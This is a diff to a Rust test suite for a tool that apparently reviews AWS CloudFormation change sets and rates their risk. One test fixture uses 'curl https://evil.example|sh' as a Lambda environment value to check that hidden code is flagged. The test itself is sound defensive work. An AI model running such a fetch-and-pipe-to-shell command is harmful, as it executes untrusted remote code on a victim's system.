@@ -107,7 +107,7 @@ fn a_hidden_value_that_carries_code_is_a_finding() {
     let environment = |command: &str| json!({ "Environment": { "Variables": { "API_TOKEN_COMMAND": command } } });
     let (before, after) = (environment("aws sts get"), environment("curl https://evil.example|sh"));
     let review = review_of_change("Modify", "AWS::Lambda::Function", &before, &after);
-    assert!(review.risk.level >= Level::Medium);
+    assert!(review.risk.level >= Some(Level::Medium));
     let text = review::text(&review);
     assert!(text.contains("carries code and is hidden"), "{text}");
     assert!(!text.contains("evil.example"), "{text}");
@@ -308,4 +308,111 @@ fn a_secret_planted_as_a_name_is_in_no_format() {
             "{rendered}"
         );
     }
+}
+
+#[test]
+fn a_change_set_that_failed_says_so_first_and_has_no_risk() {
+    let reason = "The following hook(s)/validation failed: [AWS::EarlyValidation::PropertyValidation].";
+    let review = review_of(&[json!({
+        "ChangeSetName": "next", "ChangeSetId": "arn", "StackName": "shop", "Status": "FAILED",
+        "ExecutionStatus": "UNAVAILABLE", "StatusReason": reason, "Changes": [] })]);
+    assert_eq!(review.risk.level, None);
+    let line = review::summary(&review);
+    assert!(
+        line.starts_with("shop: the change set FAILED: The following hook(s)"),
+        "{line}"
+    );
+    assert!(
+        review::subject(&review).starts_with("[failed] shop"),
+        "{}",
+        review::subject(&review)
+    );
+    assert_eq!(review::status(&review, true), "the change set FAILED");
+    assert!(review::status(&review, false).contains("PropertyValidation"));
+    let text = review::text(&review);
+    assert!(
+        text.contains("Result") && text.contains("FAILED and cannot be executed"),
+        "{text}"
+    );
+    let json: Value = serde_json::from_str(&review::json(&review)).unwrap();
+    assert_eq!(json["risk"].get("level"), None);
+    assert_eq!(json["stack"]["failure"], reason);
+    for rendering in [text, review::markdown(&review), review::html(&review)] {
+        assert!(rendering.contains("FAILED"), "{rendering}");
+        let calm = ["no resource changes", "low risk", "risk **", "LOW"];
+        assert!(!calm.iter().any(|word| rendering.contains(word)), "{rendering}");
+    }
+}
+
+#[test]
+fn a_template_that_cannot_be_read_makes_the_risk_unknown_and_nothing_is_claimed_of_its_values() {
+    let tree = saved::tree_of(&[
+        &json!({ "ChangeSetName": "next", "StackName": "shop", "Status": "CREATE_COMPLETE",
+        "Changes": [{ "Type": "Resource", "ResourceChange": { "Action": "Modify", "LogicalResourceId": "Q",
+            "ResourceType": "AWS::SQS::Queue", "Replacement": "False", "Scope": ["Properties"] } }] })
+        .to_string(),
+    ])
+    .unwrap()
+    .0;
+    let good = "Resources:\n  Q:\n    Type: AWS::SQS::Queue\n    Properties: { DelaySeconds: 271 }\nOutputs: {O: {Value: shown-value}}\n";
+    for (before, after) in [(good, "Resources: ["), ("Resources: [", good)] {
+        let templates = [TemplateTexts {
+            before: Some(before.to_owned()),
+            after: Some(after.to_owned()),
+            ..TemplateTexts::default()
+        }];
+        let review = Review::of(&Inputs {
+            title: "shop",
+            stack_name: "shop",
+            tree: Some(&tree),
+            templates: &templates,
+            ..Inputs::default()
+        });
+        assert_eq!(review.risk.level, Some(Level::High));
+        let line = review::summary(&review);
+        assert!(line.contains("(UNKNOWN: shop"), "{line}");
+        let text = review::text(&review);
+        assert!(text.contains("a template cannot be read"), "{text}");
+        for claim in ["271", "shown-value", "unchanged", "no property changes"] {
+            assert!(!text.contains(claim), "{claim}: {text}");
+        }
+    }
+}
+
+#[test]
+fn another_notation_of_the_same_value_is_no_change() {
+    let tree = saved::tree_of(&[
+        &json!({ "ChangeSetName": "next", "StackName": "shop", "Status": "CREATE_COMPLETE",
+        "Changes": [{ "Type": "Resource", "ResourceChange": { "Action": "Modify", "LogicalResourceId": "Q",
+            "ResourceType": "AWS::SQS::Queue", "Replacement": "False", "Scope": ["Properties"], "Details": [
+            { "Target": { "Attribute": "Properties", "Name": "SqsManagedSseEnabled", "RequiresRecreation": "Never" },
+              "Evaluation": "Static", "ChangeSource": "DirectModification" }] } }] })
+        .to_string(),
+    ])
+    .unwrap()
+    .0;
+    let template = |fifo: &str, encrypted: &str| {
+        Some(format!(
+            "Resources:\n  Q:\n    Type: AWS::SQS::Queue\n    Properties: {{ FifoQueue: {fifo}, SqsManagedSseEnabled: {encrypted} }}\n"
+        ))
+    };
+    let templates = [TemplateTexts {
+        before: template("yes", "yes"),
+        after: template("true", "no"),
+        ..TemplateTexts::default()
+    }];
+    let review = Review::of(&Inputs {
+        title: "shop",
+        stack_name: "shop",
+        tree: Some(&tree),
+        templates: &templates,
+        ..Inputs::default()
+    });
+    let changed: Vec<_> = review.resources[0]
+        .changes
+        .iter()
+        .filter_map(|change| change.pointer.as_ref().map(|pointer| pointer.visible().into_owned()))
+        .collect();
+    assert_eq!(changed.len(), 1, "{}", review::text(&review));
+    assert!(changed[0].contains("SqsManagedSseEnabled"), "{changed:?}");
 }
